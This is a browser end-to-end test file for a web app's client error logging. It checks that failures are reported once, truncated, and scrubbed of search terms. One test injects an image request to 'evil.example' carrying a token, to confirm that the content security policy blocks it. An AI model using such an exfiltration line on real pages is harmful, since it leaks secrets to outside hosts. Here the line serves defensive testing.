import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { demoIndexes } from '../../support/demo-indexes.ts';
import { failWith, serverText } from '../../support/requests.ts';
import { startSite, type RunningSite } from '../../support/running-site.ts';
import { untilScriptsRun, visit } from '../../support/visits.ts';

let site: RunningSite;
beforeAll(async () => {
  site = await startSite();
});
afterAll(() => site.stop());

/** Lines of the server's log that tell of failures in browsers, but for those of before. */
let earlier: number;
const reported = () =>
  site
    .output()
    .split('\n')
    // The last may not have come whole yet.
    .slice(0, -1)
    .filter((line) => line.includes('in a browser'))
    .map((line) => JSON.parse(line) as Record<string, unknown>)
    .slice(earlier);
beforeEach(() => {
  earlier = 0;
  earlier = reported().length;
});

test('NV-05 what fails in a browser is in the log of the server, once, without what was searched for', async () => {
  const page = await visit('/indexes/screener?filterPattern=secret', {
    baseURL: site.url,
    allowedErrors: /status of 500|Refused|violates/,
  });
  await failWith(page, /\/api\/securities\/suggestions/, 500);
  const field = page.locator('header input[name=filterPattern]').first();
  for (const term of ['world', 'europe']) {
    await Promise.all([page.waitForResponse(/suggestions/), field.fill(term)]);
  }
  await expect.poll(() => reported().length).toBe(1);
  expect(reported()[0]).toMatchObject({
    part: 'search',
    route: '/indexes/screener',
    message: serverText,
    build: expect.stringMatching(/^\/assets\/.+\.js$/),
  });
  await page.evaluate(() => {
    const image = document.createElement('img');
    image.src = 'https://evil.example/a.png?token=secret';
    document.body.append(image);
  });
  await expect.poll(() => reported().length).toBe(2);
  expect(reported()[1]).toMatchObject({ blocked: 'https://evil.example' });
  expect(JSON.stringify(reported())).not.toContain('token');
});

test('NV-05 a message that is longer than the log takes is cut short by the browser, and told', async () => {
  const page = await visit('/', { baseURL: site.url, allowedErrors: /Nothing came/ });
  const message = `Nothing came of /a?term=secret ${'x'.repeat(400)}`;
  await page.evaluate((text) => void Promise.reject(new Error(text)), message);
  await expect.poll(() => reported().length).toBe(1);
  expect(reported()[0]?.['message']).toMatch(/^Nothing came of \/a x{100}/);
});

test('NV-05 a page that is left while it follows a level is no failure', async () => {
  const page = await visit('/', { baseURL: site.url, allowedErrors: /status of 500/ });
  for (const leave of [() => page.reload(), () => page.goto('/documents'), () => page.goBack()]) {
    const followed = page.waitForResponse(/market-data\/changes/);
    await page.goto(`/indexes/details/${demoIndexes.full.fundId}`);
    await followed;
    await leave();
  }
  // What is told is told in order: nothing came before what fails here.
  await page.goto('/indexes/screener');
  await untilScriptsRun(page);
  await failWith(page, /\/api\/securities\/suggestions/, 500);
  await page.locator('header input[name=filterPattern]').first().fill('world');
  await expect.poll(() => reported().at(0)?.['part']).toBeDefined();
  expect(reported()).toMatchObject([{ part: 'search' }]);
});
